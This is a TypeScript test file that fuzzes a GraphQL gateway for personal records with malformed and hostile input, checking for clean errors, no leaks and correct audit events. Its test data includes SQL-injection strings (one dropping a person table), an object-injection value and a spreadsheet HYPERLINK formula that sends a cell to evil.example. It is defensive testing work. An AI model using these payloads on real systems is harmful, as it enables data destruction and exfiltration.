/**
 * A corpus of bad input against the real gateway, on PGlite and real PostgreSQL. Each item gets a
 * clear error: never a 5xx, never a stack trace, SQL or a file path in the answer; and the gateway
 * answers a normal query afterwards.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'kysely';
import {
  getNamedType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isObjectType,
  isScalarType,
  type GraphQLInputType,
  type GraphQLSchema,
} from 'graphql';
import { SignJWT } from 'jose';
import { BACKENDS, createTestGateway, NANJING_EAST, TEST_SECRET, type TestGateway } from '../setup.ts';

/** What no answer may contain: stack frames, source paths, SQL and driver detail. */
const LEAK = /\n\s+at |\bat [\w.<>]+ \(|\.ts:\d+|\.js:\d+|node_modules|\/work\/|\/tmp\/|syntax error at|relation "|column "|duplicate key|SQLSTATE|invalid byte sequence|\bselect\b[^"]*\bfrom\b|ECONNREFUSED|pglite/i;
const REQUEST_ERROR_CODES = /^(GRAPHQL_[A-Z_]+|BAD_REQUEST|OPERATION_RESOLUTION_FAILURE)$/;
const CODES = ['UNAUTHENTICATED', 'FORBIDDEN', 'PURPOSE_REQUIRED', 'BAD_USER_INPUT', 'QUERY_TOO_COMPLEX', 'RATE_LIMITED'];

const PAYLOADS: Record<string, string> = {
  sql: "'; drop table population.person; --",
  sqlQuote: `" OR 1=1 --`,
  like: '%_\\%',
  nul: 'a\u0000b',
  emoji: '👩‍👩‍👧‍👦🏠',
  rtl: '\u202Eabc\u200F\u200E\u061C',
  long: 'x'.repeat(10 * 1024),
  han: '黄浦区南京东路街道',
};

interface Answer {
  status: number;
  text: string;
  body: any;
}

/** The answer is a clear error or data: no 5xx, JSON, known codes only, nothing leaked. */
function expectClear(answer: Answer, label = '') {
  expect(answer.status, `${label}: ${answer.text.slice(0, 300)}`).toBeLessThan(500);
  expect(answer.body, label).not.toBeNull();
  const errors: any[] = answer.body.errors ?? [];
  for (const error of errors) {
    expect(typeof error.message, label).toBe('string');
    const code = error.extensions?.code;
    // GraphQL's and yoga's request errors (syntax, validation, operation selection) carry their
    // own codes; everything else is the closed model.
    if (code !== undefined && !REQUEST_ERROR_CODES.test(String(code))) expect(CODES, `${label}: ${error.message}`).toContain(code);
  }
  expect(JSON.stringify(errors), label).not.toMatch(LEAK);
}

/** A value of `type` that passes coercion, for the arguments a test does not aim at. */
function filler(type: GraphQLInputType): unknown {
  if (isNonNullType(type)) return filler(type.ofType);
  if (isListType(type)) return [filler(type.ofType)];
  if (isEnumType(type)) return type.getValues()[0]!.value;
  if (isInputObjectType(type)) {
    const value: Record<string, unknown> = {};
    for (const field of Object.values(type.getFields())) if (isNonNullType(field.type)) value[field.name] = filler(field.type);
    return value;
  }
  if (isScalarType(type)) return type.name === 'Int' || type.name === 'Float' ? 1 : type.name === 'Boolean' ? false : 'x';
  return null;
}

/** Every path to a String/ID inside an argument's type (input objects and lists included), as setters. */
function stringPaths(type: GraphQLInputType, depth = 0): ((value: string) => unknown)[] {
  const inner = isNonNullType(type) ? type.ofType : type;
  if (isListType(inner)) return stringPaths(inner.ofType, depth).map((set) => (v: string) => [set(v)]);
  if (isScalarType(inner)) return inner.name === 'String' || inner.name === 'ID' ? [(v) => v] : [];
  if (isInputObjectType(inner) && depth < 3) {
    const paths: ((value: string) => unknown)[] = [];
    for (const field of Object.values(inner.getFields())) {
      for (const set of stringPaths(field.type, depth + 1)) paths.push((v) => ({ ...(filler(inner) as object), [field.name]: set(v) }));
    }
    return paths;
  }
  return [];
}

interface Case {
  label: string;
  query: string;
  variables: Record<string, unknown>;
  root: string;
}

/** One operation per (root field, string leaf of an argument), with `payload` at that leaf. */
function casesFor(schema: GraphQLSchema, payload: string): Case[] {
  const cases: Case[] = [];
  for (const rootType of [schema.getQueryType()!, schema.getMutationType()!]) {
    const keyword = rootType === schema.getMutationType() ? 'mutation' : 'query';
    for (const field of Object.values(rootType.getFields())) {
      const selection = isObjectType(getNamedType(field.type)) ? '{ __typename }' : '';
      for (const arg of field.args) {
        stringPaths(arg.type).forEach((set, i) => {
          const variables: Record<string, unknown> = {};
          for (const other of field.args) if (isNonNullType(other.type)) variables[other.name] = filler(other.type);
          variables[arg.name] = set(payload);
          const defs = field.args.map((a) => `$${a.name}: ${String(a.type)}`).join(', ');
          const args = field.args.map((a) => `${a.name}: $${a.name}`).join(', ');
          cases.push({ label: `${keyword} ${field.name}(${arg.name}#${i})`, query: `${keyword}(${defs}) { ${field.name}(${args}) ${selection} }`, variables, root: field.name });
        });
      }
    }
  }
  return cases;
}

describe.each(BACKENDS)('bad input on %s', (backend) => {
  let gw: TestGateway;
  let clerk: string;
  let everyone: string;
  let schema: GraphQLSchema;

  const post = async (body: string, headers: Record<string, string> = {}, token: string | null = clerk): Promise<Answer> => {
    const response = await gw.gateway.yoga.fetch('http://gateway.test/graphql', {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-purpose': 'elderly-allowance', ...(token ? { authorization: `Bearer ${token}` } : {}), ...headers },
      body,
    });
    const text = await response.text();
    let parsed: any = null;
    try {
      parsed = JSON.parse(text);
    } catch {
      // expectClear reports it
    }
    return { status: response.status, text, body: parsed };
  };
  const ask = (query: string, variables?: Record<string, unknown>, token = clerk, purpose = 'elderly-allowance', operationName?: string) =>
    post(JSON.stringify({ query, variables, operationName }), { 'x-purpose': purpose }, token);

  beforeAll(async () => {
    gw = await createTestGateway({ backend });
    clerk = await gw.token({ sub: 'bad-input-clerk', org: NANJING_EAST, roles: ['street_staff'] });
    everyone = await gw.token({ sub: 'bad-input-all', org: 'dept:public-security', roles: ['data_owner', 'auditor', 'platform_admin', 'street_admin'] });
    schema = (gw.gateway.yoga as unknown as { getEnveloped(c: object): { schema: GraphQLSchema } }).getEnveloped({}).schema;
    await gw.graphql('{ people(first: 1) { totalCount } }', { token: clerk, purpose: 'elderly-allowance' }); // a source call, counted
  });
  afterAll(async () => gw?.close());

  it('malformed JSON: 400 naming JSON', async () => {
    const answer = await post('{"query": "{ people { totalCount } ');
    expect(answer.status).toBe(400);
    expectClear(answer);
    expect(answer.body.errors[0].message).toMatch(/JSON/i);
  });

  it.each([
    ['text/plain', '{ people { totalCount } }'],
    ['application/xml', '<query>{ people { totalCount } }</query>'],
    ['multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="query"\r\n\r\n{ me { sub } }\r\n--x--'],
  ])('wrong content type %s: a 4xx, nothing run', async (type, body) => {
    const answer = await post(body, { 'content-type': type });
    expect(answer.status).toBeGreaterThanOrEqual(400);
    expect(answer.status).toBeLessThan(500);
    if (answer.body) expectClear(answer);
  });

  it('a JSON body that is not an object: 400', async () => {
    for (const body of ['"a string"', '42', 'null', '{"query": 42}', '{"query": "{ me { sub } }", "variables": "nope"}']) {
      const answer = await post(body);
      expect(answer.status, body).toBe(400);
      expectClear(answer, body);
    }
  });

  it('a 1 MB body: 413', async () => {
    const answer = await post(JSON.stringify({ query: `{ me { sub } }`, variables: { x: 'y'.repeat(1 << 20) } }));
    expect(answer.status).toBe(413);
    expectClear(answer);
  });

  it('depth 50: QUERY_TOO_COMPLEX', async () => {
    let inner = 'name';
    for (let i = 0; i < 23; i++) inner = `household { residents { ${inner} } }`;
    const answer = await ask(`{ people(first: 1) { edges { node { ${inner} } } } }`);
    expectClear(answer);
    expect(answer.body.errors[0].extensions).toMatchObject({ code: 'QUERY_TOO_COMPLEX', limit: 'depth' });
  });

  it('1,000 aliases: QUERY_TOO_COMPLEX', async () => {
    const aliases = Array.from({ length: 1000 }, (_, i) => `a${i}: totalCount`).join(' ');
    const answer = await ask(`{ people { ${aliases} } }`);
    expectClear(answer);
    expect(answer.body.errors[0].extensions.code).toBe('QUERY_TOO_COMPLEX');
  });

  it('a 10,000-element batch: refused', async () => {
    const answer = await post(JSON.stringify(Array.from({ length: 10_000 }, () => ({ query: '{ me { sub } }' }))));
    expect([400, 413]).toContain(answer.status);
    expectClear(answer);
  });

  it('an unknown operation name: a clear error', async () => {
    const answer = await ask(`query A { me { sub } } query B { me { org } }`, undefined, clerk, 'elderly-allowance', 'C');
    expectClear(answer);
    expect(answer.body.data ?? null).toBeNull();
    expect(answer.body.errors[0].message).toMatch(/C/);
  });

  it('several operations and no operation name: a clear error', async () => {
    const answer = await ask(`query A { me { sub } } query B { me { org } }`);
    expectClear(answer);
    expect(answer.body.errors.length).toBeGreaterThan(0);
  });

  it.each([
    ['a string for an Int', `query($n: Int) { people(first: $n) { totalCount } }`, { n: 'ten' }],
    ['a float for an Int', `query($n: Int) { people(first: $n) { totalCount } }`, { n: 1.5 }],
    ['an object for an ID', `query($id: ID!) { person(idNumber: $id) { name } }`, { id: { $ne: null } }],
    ['null for a non-null', `query($id: ID!) { person(idNumber: $id) { name } }`, { id: null }],
    ['an unknown enum value', `query($o: PersonOrder) { people(orderBy: $o) { totalCount } }`, { o: { field: 'salary' } }],
    ['an unknown filter field', `query($f: PersonFilter) { people(filter: $f) { totalCount } }`, { f: { salary: { eq: 'x' } } }],
    ['a list for a string', `query($f: PersonFilter) { people(filter: $f) { totalCount } }`, { f: { name: { eq: ['a'] } } }],
    ['a huge int', `query($n: Int) { people(first: $n) { totalCount } }`, { n: 2 ** 40 }],
  ])('variables of the wrong type (%s): a clear error, nothing read', async (_name, query, variables) => {
    const answer = await ask(query, variables);
    expectClear(answer);
    expect(answer.body.errors?.length).toBeGreaterThan(0);
    expect(answer.body.data?.people ?? answer.body.data?.person ?? null).toBeNull();
  });

  describe.each(Object.entries(PAYLOADS))('the string %s in every string argument of every root field', (name, payload) => {
    it('never a 5xx, never a leak', async () => {
      const cases = casesFor(schema, payload);
      expect(cases.length).toBeGreaterThan(30);
      const dataRoots = new Set(['person', 'people', 'house', 'houses', 'socialSecurityAccount']);
      for (const c of cases) {
        const housing = c.root === 'house' || c.root === 'houses';
        const token = dataRoots.has(c.root) || c.root === 'me' ? clerk : everyone;
        const answer = await ask(c.query, c.variables, token, housing ? 'rental-registration' : 'elderly-allowance');
        expectClear(answer, `${name} ${c.label}`);
      }
    });
  });

  it('literal strings in the document are held to the same', async () => {
    for (const payload of Object.values(PAYLOADS)) {
      const literal = JSON.stringify(payload);
      const answer = await ask(`{ people(filter: { name: { eq: ${literal} } }) { totalCount } person(idNumber: ${literal}) { name } }`);
      expectClear(answer, literal.slice(0, 40));
    }
  });

  it('a cursor from another query: BAD_USER_INPUT', async () => {
    const first = await ask(`{ houses(first: 2) { pageInfo { endCursor } } }`, undefined, clerk, 'rental-registration');
    const cursor = first.body.data.houses.pageInfo.endCursor;
    expect(typeof cursor).toBe('string');
    const answer = await ask(`query($c: String) { people(first: 2, after: $c) { totalCount } }`, { c: cursor });
    expectClear(answer);
    expect(answer.body.errors[0].extensions.code).toBe('BAD_USER_INPUT');
  });

  it.each([[-1], [-(2 ** 31)], [101], [2 ** 31 - 1]])('first: %d is BAD_USER_INPUT', async (first) => {
    const answer = await ask(`query($n: Int) { people(first: $n) { totalCount } }`, { n: first });
    expectClear(answer);
    expect(answer.body.errors[0].extensions.code).toBe('BAD_USER_INPUT');
  });

  it('a token with a 100 KB claim: 401', async () => {
    const token = await new SignJWT({ org: NANJING_EAST, roles: ['street_staff'], padding: 'p'.repeat(100 * 1024) })
      .setProtectedHeader({ alg: 'HS256' })
      .setSubject('fat')
      .setExpirationTime('1h')
      .sign(new TextEncoder().encode(TEST_SECRET));
    const answer = await ask(`{ me { sub } }`, undefined, token);
    expect(answer.status).toBe(401);
    expectClear(answer);
  });

  /** The audit events stored under the request id the answer names. */
  const eventsOf = async (answer: { requestId: string | null }) => {
    const { rows } = await sql<{ decision: string; reason: string | null; purpose: string | null; operation_type: string }>`
      select decision, reason, purpose, operation_type from audit_event where request_id = ${answer.requestId}`.execute(gw.runtime.databases.store);
    return rows;
  };
  /** Source calls counted as the source failing (the connectors' metrics: outcome unavailable, timeout, bad-response). */
  const sourceFailures = async () => {
    const text = await gw.runtime.metrics.render();
    let failed = 0;
    let lines = 0;
    for (const line of text.split('\n')) {
      const match = /^lianqiao_source_request_duration_seconds_count\{[^}]*outcome="([^"]+)"[^}]*\} (\d+)/.exec(line);
      if (match) lines += 1;
      if (match && !['ok', 'bad-cursor'].includes(match[1]!)) failed += Number(match[2]);
    }
    expect(lines).toBeGreaterThan(0); // the metric is there to be read
    return failed;
  };

  it.each([
    ['an impossible day', '2026-02-31'],
    ['year 0', '0000-06-01'],
    ['month 13', '2026-13-01'],
  ])('a date filter with %s is BAD_USER_INPUT, not a source failure', async (_name, date) => {
    const before = await sourceFailures();
    const answer = await ask(`query($d: String) { people(first: 1, filter: { birthDate: { lte: $d } }) { totalCount } }`, { d: date });
    expectClear(answer);
    expect(answer.body.errors[0].extensions.code).toBe('BAD_USER_INPUT');
    expect(await sourceFailures()).toBe(before);
  });

  it.each([
    ['an impossible day', '2026-02-31'],
    ['year 0', '0000-01-01'],
    ['a word', 'yesterday'],
    ['a number', 12],
  ])('an edited cursor (order value: %s) is BAD_USER_INPUT, not a source failure', async (_name, value) => {
    const query = `query($c: String) { people(first: 2, after: $c, orderBy: { field: birthDate }) { pageInfo { endCursor } } }`;
    const first = await ask(query, { c: null });
    const cursor = first.body.data.people.pageInfo.endCursor as string;
    const data = JSON.parse(Buffer.from(cursor, 'base64url').toString('utf8'));
    expect(data.v).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    const edited = Buffer.from(JSON.stringify({ ...data, v: value }), 'utf8').toString('base64url');
    const before = await sourceFailures();
    const answer = await ask(query, { c: edited });
    expectClear(answer);
    expect(answer.body.errors[0].extensions.code).toBe('BAD_USER_INPUT');
    expect(await sourceFailures()).toBe(before);
    // The untouched cursor still pages on.
    expect((await ask(query, { c: cursor })).body.errors).toBeUndefined();
  });

  describe('a purpose that is not a duty id is refused before anything is read, and never recorded', () => {
    const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    it.each([
      ['a formula, with a token', HYPERLINK, true],
      ['a formula, without a token', HYPERLINK, false],
      ['24 KB', 'a'.repeat(24 * 1024), true],
      ['upper case', 'ELDERLY-ALLOWANCE', true],
      ['a control character', 'elderly\u0007allowance', true],
    ])('%s', async (_name, purpose, withToken) => {
      const before = await sourceFailures();
      const response = await gw.gateway.yoga.fetch('http://gateway.test/graphql', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-purpose': purpose, ...(withToken ? { authorization: `Bearer ${clerk}` } : {}) },
        body: JSON.stringify({ query: '{ people(first: 1) { totalCount } }' }),
      });
      const body = await response.json();
      expect(body.data ?? null).toBeNull();
      expect(body.errors[0].extensions.code).toBe(withToken ? 'BAD_USER_INPUT' : 'UNAUTHENTICATED');
      expect(response.status).toBe(withToken ? 400 : 401);
      expect(JSON.stringify(body)).not.toContain('HYPERLINK');
      expect(await sourceFailures()).toBe(before);
      const events = await eventsOf({ requestId: response.headers.get('x-request-id') });
      expect(events).toHaveLength(1);
      expect(events[0]).toMatchObject({ decision: 'deny', purpose: null });
      expect(events[0]!.reason).not.toContain('HYPERLINK');
    });

    it('on the audit export route too', async () => {
      const auditor = await gw.token({ sub: 'bad-input-auditor', org: 'office:audit', roles: ['auditor'] });
      const server = gw.gateway.app.listen(0, '127.0.0.1');
      await new Promise<void>((resolve) => server.once('listening', () => resolve()));
      try {
        const port = (server.address() as { port: number }).port;
        const answer = await fetch(`http://127.0.0.1:${port}/audit/export?from=2020-01-01T00:00:00Z&to=2030-01-01T00:00:00Z&format=csv`, {
          headers: { authorization: `Bearer ${auditor}`, 'x-purpose': HYPERLINK },
        });
        expect(answer.status).toBe(400);
        expect((await answer.json()).errors[0].extensions.code).toBe('BAD_USER_INPUT');
      } finally {
        await new Promise<void>((resolve) => server.close(() => resolve()));
      }
    });
  });

  describe('answers that never execute leave exactly one event', () => {
    it.each([
      ['a syntax error', { query: '{ people(first: 1) { totalCount ' }],
      ['a validation error', { query: '{ people(first: 1) { noSuchField } }' }],
      ['an unknown operation name', { query: 'query A { me { sub } }', operationName: 'B' }],
      ['a subscription', { query: 'subscription S { me { sub } }' }],
      ['several operations and no name', { query: 'query A { me { sub } } query B { me { org } }' }],
    ])('%s', async (_name, payload) => {
      const response = await gw.gateway.yoga.fetch('http://gateway.test/graphql', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-purpose': 'elderly-allowance', authorization: `Bearer ${clerk}` },
        body: JSON.stringify(payload),
      });
      const body = await response.json();
      expect(body.errors?.length).toBeGreaterThan(0);
      const events = await eventsOf({ requestId: response.headers.get('x-request-id') });
      expect(events).toHaveLength(1);
      expect(['deny', 'error']).toContain(events[0]!.decision);
      expect(events[0]!.purpose).toBe('elderly-allowance');
    });
  });

  it('the gateway answers a normal query afterwards', async () => {
    const answer = await ask(`{ people(first: 5) { totalCount edges { node { name streetCode } } } }`);
    expect(answer.status).toBe(200);
    expect(answer.body.errors).toBeUndefined();
    expect(answer.body.data.people.edges.length).toBe(5);
    expect((await gw.runtime.readiness()).ready).toBe(true);
  });
});
